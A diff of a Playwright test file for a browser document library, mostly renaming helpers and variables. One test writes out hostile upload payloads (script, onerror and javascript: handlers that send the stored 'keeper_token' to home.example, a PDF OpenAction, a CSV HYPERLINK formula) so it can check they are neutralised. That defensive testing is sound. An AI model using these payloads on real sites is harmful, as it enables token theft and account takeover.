@@ -16,22 +16,22 @@ const createFile = (name: string, content: string, mimeType = 'text/plain'): Upl
   buffer: Buffer.from(content),
 })
 const getCard = (page: Page, name: string) => page.getByRole('article', { name, exact: true })
-const search = (page: Page) => page.getByRole('searchbox', { name: 'Search documents' })
+const getSearchBox = (page: Page) => page.getByRole('searchbox', { name: 'Search documents' })
 
 /** Opens Ada's empty library and waits for the shell's own requests. */
 async function openLibrary(page: Page, keeper: BuiltKeeper) {
-  const last = page.waitForRequest(/\/api\/events/)
+  const lastShellRequest = page.waitForRequest(/\/api\/events/)
   await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
   await expect(page.getByText('No documents found')).toBeVisible()
-  await last
+  await lastShellRequest
   await page.waitForTimeout(500)
 }
 
-async function upload(page: Page, ...files: UploadFile[]) {
+async function uploadFiles(page: Page, ...files: UploadFile[]) {
   await page.getByLabel('Choose documents').setInputFiles(files)
 }
 async function uploadAndWait(page: Page, ...files: UploadFile[]) {
-  await upload(page, ...files)
+  await uploadFiles(page, ...files)
   for (const { name } of files) await expect(getCard(page, name)).toBeVisible()
 }
 async function openDocument(page: Page, name: string) {
@@ -43,13 +43,13 @@ async function openDocument(page: Page, name: string) {
 
 /** A real PDF of three pages with embedded fonts. */
 async function createPdf(page: Page): Promise<Buffer> {
-  const maker = await page.context().newPage()
-  const next = 'style="break-before: page"'
-  await maker.setContent(
-    `<h1>Lease</h1><p>The boathouse clause.</p><p ${next}>The jetty too.</p><p ${next}>Signed.</p>`,
+  const pdfPage = await page.context().newPage()
+  const pageBreak = 'style="break-before: page"'
+  await pdfPage.setContent(
+    `<h1>Lease</h1><p>The boathouse clause.</p><p ${pageBreak}>The jetty too.</p><p ${pageBreak}>Signed.</p>`,
   )
-  const pdf = await maker.pdf()
-  await maker.close()
+  const pdf = await pdfPage.pdf()
+  await pdfPage.close()
   return pdf
 }
 
@@ -64,7 +64,7 @@ test('uploads show their progress, survive a reload and make no API call @long',
     createFile('export.json', '{"moments":[1,2]}', 'application/json'),
     createFile('notes.md', '# Tides', ''),
   ]
-  await upload(page, ...files)
+  await uploadFiles(page, ...files)
   for (const { name } of files) {
     await expect(page.getByRole('progressbar', { name: `Upload of ${name}` })).toBeVisible()
     await expect(getCard(page, name)).toHaveCount(0)
@@ -74,9 +74,9 @@ test('uploads show their progress, survive a reload and make no API call @long',
   await expect(getCard(page, 'Choir list.txt')).toContainText(/text, 15 Bytes, \w{3} \d{1,2}, \d{4}/)
   await expect(page.getByText(/^Using .* of .*GB$/)).toBeVisible()
 
-  const other = await context.newPage()
-  await other.goto('/library')
-  await expect(getCard(other, 'notes.md')).toBeVisible()
+  const otherTab = await context.newPage()
+  await otherTab.goto('/library')
+  await expect(getCard(otherTab, 'notes.md')).toBeVisible()
   await page.getByRole('button', { name: 'Edit Choir list.txt' }).click()
   await page.getByLabel('Name').fill('Choir')
   await page.getByLabel('Description').fill('Autumn')
@@ -86,8 +86,8 @@ test('uploads show their progress, survive a reload and make no API call @long',
   await page.getByLabel('Tags').fill(' a, b ,, c,d, e')
   await page.getByRole('button', { name: 'Save' }).click()
   await expect(getCard(page, 'Choir')).toContainText('+2 more')
-  await expect(getCard(other, 'Choir')).toContainText('Autumn')
-  await other.close()
+  await expect(getCard(otherTab, 'Choir')).toContainText('Autumn')
+  await otherTab.close()
   expect(calls).toEqual([])
 
   await page.reload()
@@ -105,24 +105,24 @@ test('uploads show their progress, survive a reload and make no API call @long',
 
 test('invalid files are refused, and duplicates are asked about @long', async ({ page, keeper }) => {
   await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
-  await upload(page, createFile('tool.exe', 'MZ', 'application/x-msdownload'))
+  await uploadFiles(page, createFile('tool.exe', 'MZ', 'application/x-msdownload'))
   await expect(page.getByText('Unsupported file type. Please upload PDF, JSON, Markdown, or text files.')).toBeVisible()
   await page.getByRole('button', { name: 'Dismiss tool.exe' }).click()
-  await upload(page, createFile('nothing.txt', ''))
+  await uploadFiles(page, createFile('nothing.txt', ''))
   await expect(page.getByText('nothing.txt is empty. Choose a file with something in it.')).toBeVisible()
   await page.getByRole('button', { name: 'Dismiss nothing.txt' }).click()
   // Created in the page, because the test runner can't send this many bytes.
   await page.getByLabel('Choose documents').evaluate((input: HTMLInputElement) => {
-    const carried = new DataTransfer()
-    carried.items.add(new File([new Uint8Array(50 * 1024 * 1024 + 1)], 'large.txt', { type: 'text/plain' }))
-    input.files = carried.files
+    const dataTransfer = new DataTransfer()
+    dataTransfer.items.add(new File([new Uint8Array(50 * 1024 * 1024 + 1)], 'large.txt', { type: 'text/plain' }))
+    input.files = dataTransfer.files
     input.dispatchEvent(new Event('change', { bubbles: true }))
   })
   await expect(page.getByText('File size exceeds 50MB limit')).toBeVisible()
   await page.getByRole('button', { name: 'Dismiss large.txt' }).click()
 
   await uploadAndWait(page, createFile('a.txt', 'the same words'))
-  await upload(page, createFile('b.txt', 'the same words'))
+  await uploadFiles(page, createFile('b.txt', 'the same words'))
   await expect(page.getByText('This document is already in your library as “a.txt”.')).toBeVisible()
   await expect(getCard(page, 'b.txt')).toHaveCount(0)
   await page.getByRole('button', { name: 'Keep both' }).click()
@@ -137,7 +137,7 @@ test('invalid files are refused, and duplicates are asked about @long', async ({
       throw new DOMException('full', 'QuotaExceededError')
     }
   })
-  await upload(page, createFile('c.txt', 'other words'))
+  await uploadFiles(page, createFile('c.txt', 'other words'))
   await expect(page.getByText('Upload failed. Please try again.')).toBeVisible()
   await expect(page.getByText('There’s no space left for documents in this browser.')).toBeVisible()
   await page.getByRole('button', { name: 'Try again' }).click()
@@ -174,12 +174,12 @@ test('text in PDF, HTML and RTF is found, and a PDF is read page by page @long',
     ['second bed', 'garden.html'],
     ['café', 'letter.rtf'],
   ] as const) {
-    await search(page).fill(content)
+    await getSearchBox(page).fill(content)
     await expect(page.getByRole('article')).toHaveCount(1)
     await expect(getCard(page, name)).toContainText('In the text:')
     await expect(getCard(page, name).locator('mark')).toHaveText(content.split(' '), { ignoreCase: true })
   }
-  await search(page).fill('nothing has this')
+  await getSearchBox(page).fill('nothing has this')
   await expect(page.getByText('No documents found')).toBeVisible()
   await page.getByRole('button', { name: 'Show all' }).click()
 
@@ -207,8 +207,8 @@ test('text in PDF, HTML and RTF is found, and a PDF is read page by page @long',
 test("a document with lost bytes doesn't stop the search in others @long", async ({ page, keeper }) => {
   await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
   await uploadAndWait(page, createFile('harbour.txt', 'The jetty is closed.'))
-  await uploadAndWait(page, createFile('lost.txt', 'Nobody has this.'))
-  await search(page).fill('Nobody has')
+  await uploadAndWait(page, createFile('lost.txt', 'Only this file says so.'))
+  await getSearchBox(page).fill('Only this file')
   await expect(getCard(page, 'lost.txt')).toContainText('In the text:')
   await page.evaluate(async () => {
     const databases = await indexedDB.databases()
@@ -219,9 +219,9 @@ test("a document with lost bytes doesn't stop the search in others @long", async
       opening.onerror = () => reject(opening.error)
     })
     const change = db.transaction(['documents', 'blobs', 'texts'], 'readwrite')
-    const all = change.objectStore('documents').getAll()
-    all.onsuccess = () => {
-      const lost = all.result.find((document) => document.name === 'lost.txt')
+    const allDocuments = change.objectStore('documents').getAll()
+    allDocuments.onsuccess = () => {
+      const lost = allDocuments.result.find((document) => document.name === 'lost.txt')
       change.objectStore('blobs').delete(lost.blobKey)
       change.objectStore('texts').clear()
     }
@@ -231,19 +231,19 @@ test("a document with lost bytes doesn't stop the search in others @long", async
     db.close()
   })
   await page.reload()
-  await search(page).fill('jetty')
+  await getSearchBox(page).fill('jetty')
   await expect(getCard(page, 'harbour.txt')).toContainText('In the text:')
-  await search(page).fill('lost')
+  await getSearchBox(page).fill('lost')
   await expect(getCard(page, 'lost.txt'), 'found by its name').toBeVisible()
 })
 
 test('hostile documents cannot steal the token or call home', async ({ page, keeper }) => {
   await openLibrary(page, keeper)
-  const home = 'https://home.example'
-  const steal = `top.stolen=localStorage.getItem('keeper_token');fetch('${home}/?'+top.stolen)`
-  const html = `<style>@import "${home}/a.css"</style><link rel=stylesheet href=${home}/b.css><script>${steal}</script><meta http-equiv=refresh content="0;url=${home}"><img src="${home}/i.png" onerror="${steal}"><svg onload="${steal}"></svg><iframe src="javascript:${steal}"></iframe><a href="javascript:${steal}">press</a><form action=${home}><button>send</button></form><p>harmless words</p>`
-  const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${home}"\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(${home})>>>>]>>endobj\ntrailer<</Root 1 0 R>>`
-  const hostile = [
+  const attackerUrl = 'https://home.example'
+  const steal = `top.stolen=localStorage.getItem('keeper_token');fetch('${attackerUrl}/?'+top.stolen)`
+  const html = `<style>@import "${attackerUrl}/a.css"</style><link rel=stylesheet href=${attackerUrl}/b.css><script>${steal}</script><meta http-equiv=refresh content="0;url=${attackerUrl}"><img src="${attackerUrl}/i.png" onerror="${steal}"><svg onload="${steal}"></svg><iframe src="javascript:${steal}"></iframe><a href="javascript:${steal}">press</a><form action=${attackerUrl}><button>send</button></form><p>harmless words</p>`
+  const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${attackerUrl}"\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(${attackerUrl})>>>>]>>endobj\ntrailer<</Root 1 0 R>>`
+  const hostileFiles = [
     createFile('page.html', html, 'text/html'),
     createFile(
       'drawing.xml',
@@ -252,12 +252,12 @@ test('hostile documents cannot steal the token or call home', async ({ page, kee
     ),
     createFile(
       'notes.md',
-      `harmless words\n\n![x](${home}/m.png)\n\n[press](javascript:${steal})\n\n${html}`,
+      `harmless words\n\n![x](${attackerUrl}/m.png)\n\n[press](javascript:${steal})\n\n${html}`,
       'text/markdown',
     ),
-    createFile('table.csv', `a,b\n=HYPERLINK("${home}"),<img src=x onerror=${steal}>`, 'text/csv'),
+    createFile('table.csv', `a,b\n=HYPERLINK("${attackerUrl}"),<img src=x onerror=${steal}>`, 'text/csv'),
     createFile('data.json', JSON.stringify({ __proto__: html, html }), 'application/json'),
-    createFile('deed.pdf', pdf, 'application/pdf'),
+    createFile('link.pdf', pdf, 'application/pdf'),
   ]
   const foreignRequests: string[] = []
   page.on('request', (request) => {
@@ -265,11 +265,11 @@ test('hostile documents cannot steal the token or call home', async ({ page, kee
     const isAsset = origin === new URL(keeper.url).origin && pathname.startsWith('/assets/')
     if (!isAsset && protocol !== 'blob:' && protocol !== 'data:') foreignRequests.push(request.url())
   })
-  await uploadAndWait(page, ...hostile)
-  for (const { name } of hostile) {
+  await uploadAndWait(page, ...hostileFiles)
+  for (const { name } of hostileFiles) {
     const dialog = await openDocument(page, name)
     if (name === 'page.html') await expect(page.frameLocator('iframe').getByText('harmless words')).toBeVisible()
-    else if (name === 'deed.pdf') await expect(dialog.getByRole('region', { name: 'Page 1' })).toBeVisible()
+    else if (name === 'link.pdf') await expect(dialog.getByRole('region', { name: 'Page 1' })).toBeVisible()
     else if (name === 'table.csv') await expect(dialog.getByRole('cell', { name: /HYPERLINK/ })).toBeVisible()
     else await expect(dialog.getByText(/harmless words|onload/).first()).toBeAttached()
     await expect(dialog.locator('a[href^="javascript:"], script, img, svg[onload]')).toHaveCount(0)
@@ -285,9 +285,9 @@ test('a broken document says so and can be downloaded unchanged @long', async ({
   await uploadAndWait(page, createFile('broken.pdf', 'no PDF at all', 'application/pdf'))
   const dialog = await openDocument(page, 'broken.pdf')
   await expect(dialog.getByText('Error loading document content')).toBeVisible()
-  const coming = page.waitForEvent('download')
+  const downloading = page.waitForEvent('download')
   await dialog.getByRole('button', { name: 'Download' }).click()
-  const download = await coming
+  const download = await downloading
   expect(download.suggestedFilename()).toBe('broken.pdf')
   expect(await readFile(await download.path(), 'utf8')).toBe('no PDF at all')
   await dialog.getByRole('button', { name: 'Edit info' }).click()
@@ -302,9 +302,9 @@ test('documents are selected, exported, deleted and restored by keyboard @long',
   await page.getByRole('button', { name: 'Select all 2' }).focus()
   await page.keyboard.press('Enter')
   await expect(page.getByText('2 documents selected')).toBeVisible()
-  const coming = page.waitForEvent('download')
+  const downloading = page.waitForEvent('download')
   await page.getByRole('button', { name: 'Export as zip' }).press('Enter')
-  const files = await unzip(await readFile(await (await coming).path()))
+  const files = await unzip(await readFile(await (await downloading).path()))
   expect(String(files.get('a.txt'))).toBe('words of a')
   expect([...files.keys()].sort()).toEqual(['a.txt', 'b.txt', 'documents.json'])
 
@@ -324,7 +324,7 @@ test('documents are selected, exported, deleted and restored by keyboard @long',
 test('documents stay with their person after signing out @long', async ({ page, keeper, watch }) => {
   watch.expectEndOfSession()
   await registerAndSignIn(page, keeper, 'ada', { path: '/library' })
-  await uploadAndWait(page, createFile('diary.txt', 'only mine'))
+  await uploadAndWait(page, createFile('diary.txt', 'only for Ada'))
   await page
     .getByRole('button', { name: /sign out|log ?out/i })
     .first()
@@ -332,7 +332,7 @@ test('documents stay with their person after signing out @long', async ({ page, 
   await expect(page).not.toHaveURL(/library/)
   await registerAndSignIn(page, keeper, 'ben', { path: '/library' })
   await expect(page.getByText('No documents found')).toBeVisible()
-  await search(page).fill('only mine')
+  await getSearchBox(page).fill('only for Ada')
   await expect(page.getByRole('article')).toHaveCount(0)
   await page
     .getByRole('button', { name: /sign out|log ?out/i })
